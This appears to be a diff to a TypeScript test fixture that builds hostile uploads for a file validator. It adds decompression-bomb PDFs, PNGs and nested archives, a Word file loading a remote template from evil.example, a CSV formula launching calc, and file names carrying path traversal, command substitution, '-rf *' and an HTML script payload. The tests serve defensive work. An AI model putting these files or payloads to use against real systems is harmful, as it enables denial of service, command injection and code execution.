@@ -1,4 +1,4 @@
-import { gzipSync } from 'node:zlib';
+import { crc32, deflateSync, gzipSync } from 'node:zlib';
 import { contentTypes, pdfOf, picture, samples, zipOf } from './files.ts';
 
 /** A file that attacks, and what becomes of it. */
@@ -56,6 +56,29 @@ function withComment(jpeg: Buffer, comment: string): Buffer {
   return Buffer.concat([jpeg.subarray(0, 2), head, latin1(comment), jpeg.subarray(2)]);
 }
 
+/** A PDF of a hundred kilobytes whose one page unpacks into very much. */
+export function inflatingPdf(): Buffer {
+  const packed = deflateSync(Buffer.alloc(100 * 1024 * 1024, ' '), { level: 9 });
+  const head =
+    '%PDF-1.4\n1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n2 0 obj\n<</Type/Pages/Count 1/Kids[3 0 R]>>\nendobj\n';
+  const page = '3 0 obj\n<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Contents 4 0 R>>\nendobj\n';
+  const stream = `4 0 obj\n<</Length ${packed.length}/Filter/FlateDecode>>\nstream\n`;
+  const end = '\nendstream\nendobj\ntrailer\n<</Size 5/Root 1 0 R>>\n%%EOF\n';
+  return Buffer.concat([latin1(head + page + stream), packed, latin1(end)]);
+}
+
+/** Text fields of an image that unpack into very much, which readers of metadata meet. */
+async function withInflatingText(image: Buffer): Promise<Buffer> {
+  const packed = deflateSync(Buffer.alloc(50 * 1024 * 1024), { level: 9 });
+  const data = Buffer.concat([latin1('iTXtXML:com.adobe.xmp\0\x01\0\0\0'), packed]);
+  const size = Buffer.alloc(4);
+  size.writeUInt32BE(data.length - 4);
+  const sum = Buffer.alloc(4);
+  sum.writeUInt32BE(crc32(data));
+  // Behind the first chunk, which says how large the image is.
+  return Buffer.concat([image.subarray(0, 33), size, data, sum, image.subarray(33)]);
+}
+
 type Content = string | Buffer | (() => Buffer | Promise<Buffer>);
 
 const row = (what: string, name: string, content: Content, becomes: HostileFile['becomes']): HostileFile => ({
@@ -75,6 +98,26 @@ const png = () => picture().png().toBuffer();
 const jpeg = () => picture().jpeg().toBuffer();
 const gif = () => picture().gif().toBuffer();
 const pixelBomb = () => picture(8001, 8000).png({ compressionLevel: 9 }).toBuffer();
+
+const webpWithHtml = () =>
+  picture()
+    .withExif({ IFD0: { ImageDescription: ATTACK_HTML } })
+    .webp()
+    .toBuffer();
+const archives = () => {
+  let inner = zipOf({ a: Buffer.alloc(10 * 1024 * 1024) });
+  for (let depth = 0; depth < 5; depth++)
+    inner = zipOf(Object.fromEntries([...'abcdefgh'].map((name) => [name, inner])));
+  return zipOf({ ...WORD, 'word/document.xml': '<w/>', 'word/media/a.zip': inner });
+};
+const manyEntries = () =>
+  zipOf({ ...WORD, ...Object.fromEntries(Array.from({ length: 65_000 }, (_, n) => [`a${n}`, ''])) });
+const withTemplate = () =>
+  zipOf({
+    ...WORD,
+    'word/_rels/settings.xml.rels':
+      '<Relationships><Relationship Id="a" TargetMode="External" Target="https://evil.example/a.dotm"/></Relationships>',
+  });
 
 const UNTYPED = 'validation.file-type';
 const IS_SVG = 'validation.file-svg';
@@ -168,6 +211,20 @@ export const hostileFiles: readonly HostileFile[] = [
     () => zipOf({ 'META-INF/MANIFEST.MF': 'Main-Class: A', 'A.class': 'a' }),
     UNTYPED,
   ),
+  row('office file of archives in archives', 'a.docx', archives, DOCX),
+  row('office file of very many entries', 'a.docx', manyEntries, DOCX),
+  row('office file that loads a template from elsewhere', 'a.docx', withTemplate, DOCX),
+  row('table that starts a program', 'a.csv', "=cmd|' /C calc'!A0;1\n", 'text/csv'),
+  row('HTML application', 'a.hta', ATTACK_HTML, UNTYPED),
+  row('shortcut to an address', 'a.url', '[InternetShortcut]\nURL=https://evil.example/a\n', 'text/plain'),
+  row('starter of a program', 'a.desktop', '[Desktop Entry]\nType=Application\nExec=attack\n', 'text/plain'),
+  row('module of a service worker', 'sw.js', 'self.addEventListener("fetch", () => attack(1))', 'text/plain'),
+  row('captions with HTML', 'a.vtt', `WEBVTT\n\n00:00.000 --> 00:09.000\n<c>${SCRIPT}</c>\n`, UNTYPED),
+  row('GIF that is an archive of programs', 'a.gif', joined(gif, zipOf({ 'A.class': 'a' })), 'image/gif'),
+  row('WebP with HTML in its metadata', 'a.webp', webpWithHtml, 'image/webp'),
+  row('PNG whose text unpacks into very much', 'a.png', async () => withInflatingText(await png()), 'image/png'),
+  row('PDF whose page unpacks into very much', 'a.pdf', inflatingPdf, 'application/pdf'),
+  row('film of another kind with HTML behind it', 'a.html', joined(samples.webm, ATTACK_HTML), 'video/webm'),
   row('program', 'plan.pdf', samples.exe, UNTYPED),
   row('image that decodes into very much', 'a.png', pixelBomb, PIXELS),
   row('animation that decodes into very much', 'a.gif', () => gifOf(50, 8000), PIXELS),
@@ -191,6 +248,16 @@ export const hostileNames: readonly (readonly [sent: string, kept: string])[] = 
   ['run.bat', 'run.bat.pdf'],
   ['page.html', 'page.html.pdf'],
   ['CON', 'CON.pdf'],
+  ['%2e%2e%2f%2e%2e%2fpasswd', '%2e%2e%2f%2e%2e%2fpasswd.pdf'],
+  ['..%c0%af..%c0%afpasswd.pdf', '..%c0%af..%c0%afpasswd.pdf'],
+  ['-rf *.pdf', '-rf *.pdf'],
+  ['$(attack) `attack` ${attack}.pdf', '$(attack) `attack` ${attack}.pdf'],
+  ['<img src=x onerror=attack(1)>.pdf', '<img src=x onerror=attack(1)>.pdf'],
+  ['plan.pdf\u200B.exe', 'plan.pdf.exe.pdf'],
+  ['\uFEFFplan.pdf', 'plan.pdf'],
+  ['a\u0301rsplan.pdf', 'ársplan.pdf'],
+  ['\uD800plan.pdf', '\uFFFDplan.pdf'],
+  [`${'😀'.repeat(250)}.pdf`, `${'😀'.repeat(196)}.pdf`],
   ['plan.pdf:stream.exe', 'plan.pdf:stream.exe.pdf'],
   ['plan.exe. . .', 'plan.exe. . ..pdf'],
   ['PLAN.PDF', 'PLAN.PDF'],
